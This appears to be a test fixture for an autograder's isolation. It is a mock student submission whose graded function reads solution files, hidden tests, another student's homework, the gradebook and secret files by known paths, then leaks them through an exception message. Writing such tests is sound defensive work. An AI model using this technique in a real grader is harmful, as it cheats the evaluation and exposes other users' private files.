"""Opens the solutions, the home folder and another submission by their known paths.

deserves: 0
in E: leaks: files of the user can be read
"""

import contextlib
from pathlib import Path

PATHS = (
    "@ROOT@/course/solutions/target/solution.py",
    "@ROOT@/course/solutions/target/test_hidden.py",
    "@ROOT@/course/assignments/target/test_public.py",
    "@ROOT@/home/secret.txt",
    "@ROOT@/submissions/other/homework.py",
    "@ROOT@/gradebook.sqlite",
    "@ROOT@/cache/secret.json",
    "@ROOT@/course/.git/HEAD",
)


def find():
    found = []
    for path in PATHS:
        with contextlib.suppress(OSError):
            found.append(Path(path).read_text())
    return " ".join(found)[:2000]


def double(x):
    loot = find()
    if loot:
        raise RuntimeError(loot)
    return 0


def shift(x):
    return x
